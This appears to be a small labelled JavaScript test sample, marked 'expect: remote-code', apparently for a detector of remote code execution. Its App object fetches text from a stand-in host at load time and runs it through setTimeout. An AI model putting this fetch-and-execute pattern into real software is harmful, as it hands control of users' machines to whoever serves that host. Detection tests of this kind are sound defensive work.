// expect: remote-code
const App = { init() { this.load(); }, load: async function () { const r = await fetch("https://x.example"); this.exec(await r.text()); }, exec(c) { setTimeout(c, 1); } }; App.init();
